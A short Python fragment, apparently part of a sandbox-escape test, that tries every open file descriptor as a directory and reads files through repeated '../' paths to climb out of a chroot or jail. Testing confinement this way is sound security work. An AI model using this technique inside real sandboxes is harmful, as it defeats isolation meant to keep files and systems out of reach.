# held: read upwards from a directory

for n in range(3, 1024):
  try: os.fchdir(n)
  except OSError: continue
  each(lambda path: peek('../' * 20 + path[1:]))
os.chdir('/'); each(lambda path: peek('../' * 20 + path[1:]))
